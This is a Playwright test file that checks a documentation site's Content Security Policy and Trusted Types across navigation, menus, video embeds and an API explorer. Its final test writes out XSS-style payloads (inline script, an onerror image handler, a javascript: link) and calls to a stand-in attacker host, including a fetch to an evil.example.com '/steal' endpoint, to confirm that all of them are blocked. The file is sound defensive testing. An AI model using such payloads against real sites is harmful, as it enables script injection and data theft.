import type { Page } from "@playwright/test";
import { untilIdle } from "./support/settled";
import { expect, test, wake } from "./support/site";

interface Violation {
  directive: string;
  blocked: string;
  sample: string;
}

/** Collects what the page's policy blocks, from the first byte on. */
async function watchPolicy(page: Page): Promise<() => Promise<Violation[]>> {
  const seen: Violation[] = [];
  await page.exposeFunction("reportViolation", (violation: Violation) => seen.push(violation));
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) => {
      const report = (window as unknown as { reportViolation: (violation: Violation) => void }).reportViolation;
      report({ directive: event.violatedDirective, blocked: event.blockedURI, sample: event.sample });
    });
  });
  return async () => {
    await untilIdle(page);
    return seen;
  };
}

const kinds = [
  "/",
  "/observability/trace-with-python-sdk/instrument-functions",
  "/tutorials/cookbooks/capture-user-feedback",
  "/reference/api/category",
  "/reference/api/add-trace",
  "/changelog/main",
  "/changelog",
  "/roadmap",
  "/search",
  "/authoring/components",
];

/** Comes by a click, as a reader does, after the runtime is there. */
async function follow(page: Page, path: string): Promise<void> {
  await wake(page, page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Changelog" }));
  await page.evaluate((href) => {
    const link = document.createElement("a");
    link.href = href;
    link.id = "follow";
    link.textContent = "Follow";
    document.getElementById("follow")?.remove();
    document.querySelector("main")?.append(link);
  }, path);
  await page.locator("#follow").click();
  await page.waitForURL(`**${path}`);
}

test("no kind of page, and no way between them, is against the policy", { tag: "@smoke" }, async ({ page }) => {
  const violations = await watchPolicy(page);
  for (const path of kinds) await page.goto(path);
  expect(await violations()).toEqual([]);
  await page.evaluate(() => Object.assign(window, { sameDocument: true }));
  for (const path of kinds) await follow(page, path);
  // Every change was one of the client: the policy of the first page stands for all.
  expect(await page.evaluate(() => "sameDocument" in window)).toBe(true);
  expect(await violations()).toEqual([]);
});

test("a page that an extension changed is drawn anew by React, within the policy", async ({ page, problems }) => {
  await page.goto("/evaluation/concepts");
  await page.evaluate(() => {
    for (const paragraph of document.querySelectorAll("main p")) paragraph.replaceWith(document.createElement("b"));
    document.querySelector("main")?.prepend(document.createElement("table"));
  });
  await wake(page, page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Changelog" }));
  await expect(page.locator("h1")).toHaveText(/concepts/i);
  await expect(page.locator("[data-crash]")).toHaveCount(0);
  await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Changelog" }).click();
  await expect(page).toHaveURL("/changelog/main");
  expect(problems.console.filter((text) => /Trusted|Content Security/.test(text))).toEqual([]);
  // React reports the difference, as it should.
  problems.console.length = 0;
});

test("menus, tabs, copy, zoom and a slow navigation are not against the policy", async ({ page, context }) => {
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  const violations = await watchPolicy(page);
  await page.goto("/authoring/components");
  await page.getByRole("button", { name: "Dark theme" }).click();
  await page.getByRole("button", { name: /copy/i }).first().click();
  const picture = page.locator("main figure img, main p img").first();
  await picture.hover();
  await expect(async () => {
    await picture.click();
    await expect(page.locator(".medium-zoom-overlay")).toBeVisible({ timeout: 1000 });
  }).toPass();
  await page.keyboard.press("Escape");
  await page.keyboard.press("?");
  await expect(page.getByRole("dialog", { name: /shortcuts/i })).toBeVisible();
  await page.keyboard.press("Escape");
  await page.setViewportSize({ width: 390, height: 800 });
  await page.getByRole("button", { name: "Open menu" }).click();
  await page.keyboard.press("Escape");
  await page.setViewportSize({ width: 1440, height: 900 });
  let release = () => {};
  const released = new Promise<void>((resolve) => {
    release = resolve;
  });
  await wake(page);
  await page.route("**/*.txt*", async (route) => {
    await released;
    await route.continue();
  });
  await page
    .getByRole("link", { name: "Roadmap" })
    .first()
    .evaluate((link: HTMLElement) => link.click());
  await expect(page.locator("#nprogress .bar")).toBeVisible();
  release();
  await expect(page).toHaveURL("/roadmap");
  expect(await violations()).toEqual([]);
});

test("a video plays from its host, which the policy allows and nothing asked before", { tag: "@smoke" }, async ({
  page,
  problems,
}) => {
  const violations = await watchPolicy(page);
  await page.route("https://www.youtube-nocookie.com/**", (route) =>
    route.fulfill({ contentType: "text/html", body: "<h1>Player</h1>" }),
  );
  await page.goto("/authoring/components");
  expect(problems.outside).toEqual([]);
  await page.locator("a[data-video]").first().click();
  await expect(page.frameLocator("iframe").getByText("Player")).toBeVisible();
  expect(await violations()).toEqual([]);
  expect(problems.outside.every((url) => url.startsWith("https://www.youtube-nocookie.com/"))).toBe(true);
  problems.outside.length = 0;
});

test("the explorer has a policy of its own, and links to it and from it are full loads", async ({ page }) => {
  const violations = await watchPolicy(page);
  await page.goto("/reference/api/category");
  await wake(page);
  await page.evaluate(() => Object.assign(window, { sameDocument: true }));
  await page.getByRole("main").locator('a[href^="/reference/api/explorer"]').first().click();
  await page.waitForURL("**/reference/api/explorer**");
  expect(await page.evaluate(() => "sameDocument" in window)).toBe(false);
  await page.getByRole("button", { name: "Open the explorer" }).click();
  await expect(page.locator("[data-explorer][data-state=ready], [data-explorer] .redoc-wrap").first()).toBeVisible({
    timeout: 60_000,
  });
  expect(await violations()).toEqual([]);
  await page.locator("header").getByRole("link", { name: "Tutorials" }).first().click();
  await expect(page).not.toHaveURL(/explorer/);
  expect(await page.evaluate(() => "Redoc" in window)).toBe(false);
});

test("what an attacker would plant does not run", async ({ page, problems }) => {
  await page.goto("/evaluation/concepts");
  const outcome = await page.evaluate(async () => {
    const run: string[] = [];
    Object.assign(window, { ran: (what: string) => run.push(what) });
    const attempt = (work: () => void) => {
      try {
        work();
      } catch {
        // Refused by Trusted Types.
      }
    };
    attempt(() => {
      const script = document.createElement("script");
      script.textContent = "ran('inline script')";
      document.body.append(script);
    });
    attempt(() => {
      const box = document.createElement("div");
      box.innerHTML = "<img src=x onerror=\"ran('handler')\">";
      document.body.append(box);
    });
    attempt(() => {
      const script = document.createElement("script");
      script.src = "https://evil.example.com/a.js";
      document.body.append(script);
    });
    // In a task of its own: what a debugger evaluates may use eval.
    setTimeout(() =>
      attempt(() => {
        // biome-ignore lint/security/noGlobalEval: that it does not run is what is tested
        window.eval("ran('eval')");
      }),
    );
    attempt(() => {
      const link = document.createElement("a");
      link.href = "javascript:ran('address')";
      document.body.append(link);
      link.click();
    });
    const frame = document.createElement("iframe");
    frame.src = "https://evil.example.com/";
    document.body.append(frame);
    const sent = await fetch("https://evil.example.com/steal").then(
      () => "sent",
      () => "blocked",
    );
    await new Promise((resolve) => setTimeout(resolve, 300));
    return { run, sent };
  });
  expect(outcome).toEqual({ run: [], sent: "blocked" });
  // The browser says so in its console, which is as it should be here.
  problems.console.length = 0;
  problems.outside.length = 0;
});
